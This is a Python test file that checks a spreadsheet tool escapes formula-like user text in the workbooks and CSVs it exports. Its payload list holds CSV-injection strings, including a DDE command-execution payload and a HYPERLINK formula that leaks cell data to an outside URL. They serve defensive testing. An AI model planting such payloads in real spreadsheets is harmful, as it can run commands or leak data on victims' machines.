"""No formula injection: user text that a spreadsheet program would run is written as text.

Text beginning with ``=``, ``+``, ``-``, ``@``, a tab, CR or LF goes everywhere a user can
put text (names, a cohort title, an unknown column's header and values, an unknown sheet's
name and cells, a setting's value), then through every output kenshu writes: the exported
workbook, the template, the annotated copy, the report workbook, and the CSV files of
``convert --to csv`` and ``report --csv``. Every cell of every workbook is read back: none
is a formula (openpyxl ``data_type == "f"``, and no ``<f>`` element in any sheet's XML);
every CSV field that begins with a trigger character is escaped as OWASP recommends.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from helpers import cohort_values, find_sheet, host, make_cohort, participant, put, run_cli
from kenshu.csvout import csv_field, text_of, write_csv
from kenshu.workbook.cells import FORMULA_TRIGGERS
from kenshu.workbook.export import escape_text

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1\n=2+2",
]
_NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")


@pytest.fixture(scope="module")
def hostile_book(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A cohort with a formula-like payload in every place a user writes text (a CR written
    as Excel writes it, ``_x000D_``: openpyxl would write it raw, and XML reads a raw CR as
    LF)."""
    folder = tmp_path_factory.mktemp("injection")
    people = [
        participant(
            f"P{n:02d}",
            family_name=escape_text(payload),
            given_name=escape_text(payload),
            home_organisation=escape_text(payload),
            position=escape_text(payload),
            host_id="H01" if n % 2 else "H02",
        )
        for n, payload in enumerate(PAYLOADS, start=1)
    ]
    book = make_cohort(
        folder,
        "hostile.xlsx",
        cohort=cohort_values(title="=1+1", theme="@SUM(1)", location="-1+1"),
        participants=people,
        hosts=[host("H01", name="=1+1", wishes="+1"), host("H02", name="-1", wishes="@x")],
        settings={"class_min_size": 2},
    )
    wb = openpyxl.load_workbook(book)
    ws = find_sheet(wb, "participants")
    column = ws.max_column + 1
    put(ws, 1, column, "=HEADER()")  # an unknown column: header and values
    for row in range(2, ws.max_row + 1):
        put(ws, row, column, escape_text(PAYLOADS[(row - 2) % len(PAYLOADS)]))
    extra = wb.create_sheet("=Notes")  # an unknown sheet
    for row, payload in enumerate(PAYLOADS, start=1):
        put(extra, row, 1, escape_text(payload))
        put(extra, row, 2, -5)  # a negative number stays a number
    wb.save(book)
    return book


def outputs(book: Path, folder: Path) -> tuple[list[Path], list[Path]]:
    """Every kind of output kenshu writes from ``book``: (workbooks, CSV files)."""
    folder.mkdir(parents=True, exist_ok=True)
    json_copy = folder / "cohort.json"
    commands = [
        ["convert", str(book), str(folder / "export.xlsx")],
        ["convert", str(book), str(json_copy)],
        ["convert", str(book), str(folder / "cohort-csv"), "--to", "csv"],
        ["validate", str(book), "--annotate", str(folder / "annotated.xlsx")],
        [
            "report",
            str(book),
            "-o",
            str(folder / "report.xlsx"),
            "--csv",
            str(folder / "report-csv"),
        ],
        ["template", "lgotp", "-o", str(folder / "template.xlsx")],
        ["template", "lgotp", "-o", str(folder / "template-ja.xlsx"), "--lang", "ja"],
    ]
    for args in commands:
        result = run_cli(*args)
        assert result.exit_code in (0, 1), (args, result.output)
    # and from the JSON copy back to a workbook
    assert run_cli("convert", str(json_copy), str(folder / "from-json.xlsx")).exit_code == 0
    workbooks = sorted(folder.glob("*.xlsx"))
    csvs = sorted(folder.glob("*/*.csv"))
    return workbooks, csvs


def test_every_output_holds_the_payloads_as_text(hostile_book: Path, tmp_path: Path) -> None:
    workbooks, csvs = outputs(hostile_book, tmp_path)
    assert {p.name for p in workbooks} == {
        "annotated.xlsx",
        "export.xlsx",
        "from-json.xlsx",
        "report.xlsx",
        "template-ja.xlsx",
        "template.xlsx",
    }
    assert {p.parent.name for p in csvs} == {"cohort-csv", "report-csv"}
    seen: set[str] = set()
    for path in workbooks:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                    xml = archive.read(name)
                    assert not re.search(rb"<(?:\w+:)?f[\s>/]", xml), f"{path.name}:{name}"
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    where = f"{path.name}!{ws.title}!{cell.coordinate}"
                    assert cell.data_type != "f", f"{where} is a formula: {cell.value!r}"
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.data_type in ("s", "inlineStr"), where
                        seen.add(cell.value)
    # the payloads did reach the outputs, as text (a CR is kept as Excel's _x000D_ escape,
    # which openpyxl does not decode)
    assert {p for p in PAYLOADS if not p.startswith("\r")} <= seen
    for path in csvs:
        check_csv(path)


def check_csv(path: Path) -> None:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path}: UTF-8 with a BOM by default"
    with path.open(encoding="utf-8-sig", newline="") as handle:
        for number, row in enumerate(csv.reader(handle), start=1):
            for column, field in enumerate(row, start=1):
                if field.startswith(FORMULA_TRIGGERS):
                    assert _NUMBER.match(field), f"{path.name} row {number} col {column}: {field!r}"


def test_the_payloads_reach_the_csv_files_escaped(hostile_book: Path, tmp_path: Path) -> None:
    _, csvs = outputs(hostile_book, tmp_path)
    fields = set()
    for path in csvs:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            fields |= {field for row in csv.reader(handle) for field in row}
    for payload in PAYLOADS:
        assert "'" + payload in fields, payload
    assert "-5" in fields  # a number, not text: written as it is
    notes = next(p for p in csvs if p.name == "=Notes.csv").read_bytes()
    assert b'"\'=1+1",-5\r\n' in notes


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_field_follows_owasp(payload: str) -> None:
    field = csv_field(payload)
    assert field.startswith("\"'"), field  # quoted, with a leading single quote
    assert field.endswith('"')
    assert field[2:-1].replace('""', '"') == payload


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-5, "-5"),
        (-2.5, "-2.5"),
        (12.0, "12"),
        ("plain", "plain"),
        ("a,b", '"a,b"'),
        ('say "hi"', '"say ""hi"""'),
        ("two\nlines", '"two\nlines"'),
        (True, "yes"),
        (None, ""),
        (("a", "b"), "a; b"),
    ],
)
def test_csv_field_values(value: object, expected: str) -> None:
    assert csv_field(value) == expected


def test_text_of_dates() -> None:
    import datetime as dt

    assert text_of(dt.date(2024, 5, 20)) == "2024-05-20"
    assert text_of(dt.datetime(2024, 5, 20, 9, 30)) == "2024-05-20 09:30:00"


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "cp932"])
def test_csv_encodings(tmp_path: Path, encoding: str) -> None:
    path = write_csv(tmp_path / "x.csv", [["参加者", "=1+1", 3]], encoding, sheet="S")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") == (encoding == "utf-8-sig")
    text = raw.decode("utf-8-sig" if encoding != "cp932" else "cp932")
    assert text == '参加者,"\'=1+1",3\r\n'


def test_cp932_names_the_cell_it_cannot_write(tmp_path: Path, valid_book: Path) -> None:
    target = tmp_path / "x.csv"
    from kenshu.csvout import CsvEncodingError

    with pytest.raises(CsvEncodingError, match=r"Participants!C2: the character '😀' \(U\+1F600\)"):
        write_csv(
            target, [["id", "name", "given"], ["P01", "Nguyen", "Lan 😀"]], "cp932", "Participants"
        )
    assert not target.exists()  # no partial file

    book = make_cohort(
        tmp_path, "emoji.xlsx", participants=[participant("P01", given_name="Lan 😀")]
    )
    folder = tmp_path / "csv"
    result = run_cli("convert", str(book), str(folder), "--to", "csv", "--encoding", "cp932")
    assert result.exit_code == 2
    assert "Participants!" in result.stderr and "U+1F600" in result.stderr
    assert "cannot be written in cp932" in result.stderr
    assert not (folder / "Participants.csv").exists()
    # the same cohort in the default encoding
    assert run_cli("convert", str(book), str(folder), "--to", "csv").exit_code == 0
    text = (folder / "Participants.csv").read_text(encoding="utf-8-sig")
    assert "Lan 😀" in text


def test_cp932_csv_reads_back_in_japanese(tmp_path: Path) -> None:
    book = make_cohort(
        tmp_path,
        "ja.xlsx",
        lang="ja",
        participants=[participant("P01", native_name="阮氏蘭", family_name="Nguyen")],
    )
    folder = tmp_path / "csv"
    result = run_cli("convert", str(book), str(folder), "--to", "csv", "--encoding", "cp932")
    assert result.exit_code == 0, result.output
    names = sorted(p.name for p in folder.iterdir())
    assert "参加者.csv" in names and "コホート.csv" in names
    with (folder / "参加者.csv").open(encoding="cp932", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][0] == "参加者ID"
    assert rows[1][:2] == ["P01", "Nguyen"]
    assert "阮氏蘭" in rows[1]


def test_csv_options_misuse(tmp_path: Path, valid_book: Path) -> None:
    result = run_cli("convert", str(valid_book), str(tmp_path / "x.json"), "--encoding", "cp932")
    assert result.exit_code == 2 and "--encoding applies to --to csv" in result.stderr
    result = run_cli("report", str(valid_book), "--json", "--encoding", "cp932")
    assert result.exit_code == 2 and "--encoding applies" in result.stderr
    folder = tmp_path / "folder"
    folder.mkdir()
    result = run_cli("convert", str(valid_book), str(folder))
    assert result.exit_code == 2 and "is a folder" in result.stderr


def test_report_csv_has_every_report_sheet(tmp_path: Path, valid_book: Path) -> None:
    report = tmp_path / "report.xlsx"
    folder = tmp_path / "csv"
    result = run_cli("report", str(valid_book), "-o", str(report), "--csv", str(folder))
    assert result.exit_code in (0, 1), result.output
    visible = [
        ws.title for ws in openpyxl.load_workbook(report).worksheets if ws.sheet_state == "visible"
    ]
    assert sorted(p.stem for p in folder.iterdir()) == sorted(visible)
    # the CSV holds the workbook's cells, line N for row N
    wb = openpyxl.load_workbook(report)
    with (folder / "Participants.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    sheet = [
        ["" if v is None else v for v in row]
        for row in wb["Participants"].iter_rows(values_only=True)
    ]
    assert rows[0] == sheet[0]
    assert [r[0] for r in rows[1:]] == [r[0] for r in sheet[1:]]
    # --csv alone (no workbook) writes the same files
    alone = tmp_path / "alone"
    assert run_cli("report", str(valid_book), "--csv", str(alone)).exit_code in (0, 1)
    assert sorted(p.name for p in alone.iterdir()) == sorted(p.name for p in folder.iterdir())
